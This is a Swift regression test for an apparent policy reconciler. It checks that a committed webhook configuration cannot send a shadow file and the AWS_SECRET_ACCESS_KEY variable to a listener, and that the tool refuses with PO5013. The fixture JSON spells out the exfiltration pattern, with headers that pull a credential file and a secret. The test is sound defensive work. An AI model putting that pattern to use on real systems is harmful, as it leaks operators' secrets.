import Foundation
import Testing
import TestSupport

/// What a merged commit may reach is what the operator granted (SPEC section 18): a webhook
/// host whose headers ask for `/etc/shadow` and the reconciler's `AWS_SECRET_ACCESS_KEY`,
/// and a policy that posts on a named event, used to send both to whoever listened. Now the
/// dry-run refuses them (PO5013), the value is never read, and the listener receives nothing.
@Suite(.serialized) struct RepositoryReachTests {
    static let hook = "4a1b2c3d-5e6f-4a7b-8c9d-0e1f2a3b4c5d"

    @Test func aCommitCannotSendTheReconcilersFilesOrEnvironmentAnywhere() throws {
        let dir = TemporaryDirectory("reach")
        let listener = try Simulator("webhook_receiver.py", [])
        let stolen = "aws-" + UUID().uuidString.lowercased()
        dir.write("shadow", "root:$6$not-a-real-hash:19000:0:99999:7:::\n")
        let repo = try GitFixture()
        repo.write("hosts/exfil.json", """
        {"id": "\(Self.hook)", "name": "exfil", "driver": "webhook",
         "connection": {"url": "\(listener.url)", "headers": {"X-A": {"file": "\(dir.join("shadow"))"}, "X-B": {"env": "AWS_SECRET_ACCESS_KEY"}}}}
        """)
        repo.write("policies/exfil.json", """
        {"version": 1, "name": "exfil", "trigger_group": {"triggers": [{"type": "webhook.custom", "name": "go"}]},
         "targets": {"host_id": "\(Self.hook)", "target_type": "endpoint", "selector": {"mode": "list", "value": "x"}},
         "actions": [{"capability_id": "webhook.request", "verb": "post", "params": {"path": "/", "body": {}}}]}
        """)
        try repo.commit("a harmless notification")
        let validated = try Paths.policyops(["validate", "--repo", repo.path])
        #expect(validated.status == 0, "the files are well-formed: \(validated.stdout)")
        // The operator granted something else: loopback for this test, and one unrelated secret.
        dir.write("config.json", """
        {"secrets": {"chat": {"env": "CHAT_TOKEN", "hosts": ["11111111-2222-4333-8444-555555555555"], "fields": ["headers.X-B"]}},
         "network": {"allow_loopback": true}}
        """)
        var environment = ProcessInfo.processInfo.environment
        environment["AWS_SECRET_ACCESS_KEY"] = stolen
        let state = TemporaryDirectory("state")
        let arguments = ["--repo", repo.path, "--state", state.path, "--config", dir.join("config.json")]
        let applied = try Paths.policyops(["reconcile"] + arguments + ["--once", "--no-nut"], environment: environment)
        #expect(applied.status == 0, "\(applied.stderr)")
        #expect(try Paths.policyops(["event", "emit", "--state", state.path, "--kind", "webhook.custom", "--attr", "name=go"]).status == 0)
        let ran = try Paths.policyops(["reconcile"] + arguments + ["--once", "--no-nut"], environment: environment)
        #expect(ran.status == 0, "\(ran.stderr)")

        let got = try listener.requests()
        #expect(got.isEmpty, "the listener received \(got)")
        let ledger = try Paths.policyops(["ledger", "--state", state.path, "--limit", "0", "--format", "json"])
        #expect(ledger.stdout.contains("PO5013") && ledger.stdout.contains(#"is not listed for this host in the operator's configuration"#), "\(ledger.stdout)")
        #expect(!ledger.stdout.contains(stolen) && !ledger.stdout.contains("not-a-real-hash"))
        let status = try Paths.policyops(["status", "--state", state.path])
        #expect(status.stdout.contains("disabled") && status.stdout.contains("exfil"), "\(status.stdout)")
    }
}
